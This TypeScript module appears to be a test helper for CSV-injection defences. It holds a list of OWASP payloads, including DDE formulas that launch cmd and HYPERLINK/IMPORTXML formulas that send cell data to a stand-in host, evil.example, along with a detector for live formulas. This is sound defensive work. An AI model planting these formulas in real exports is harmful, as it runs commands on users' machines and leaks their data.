import Papa from 'papaparse';

// The payloads OWASP lists for CSV injection (https://owasp.org/www-community/attacks/CSV_Injection),
// each alone and after every line break a spreadsheet may honour inside a cell.
export const OWASP_PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?leak="&A1,"Error: please click")`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")`,
  `=DDE("cmd";"/C calc";"!A0")`,
  `\t=1+1`,
  `\r=1+1`,
  ` =1+1`,
  `\uFF1D1+1`,
];
export const LINE_BREAKS = ['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\v', '\f'];

/** What a spreadsheet could run: any line of any cell starting with a formula sign. */
export function liveFormulas(csv: string): string[] {
  const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n' }).data.flat();
  return cells
    .flatMap((cell) => cell.split(/\r\n|[\n\r\v\f\u0085\u2028\u2029]/))
    .filter((line) => /^[\s\u00A0\u3000\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(line));
}
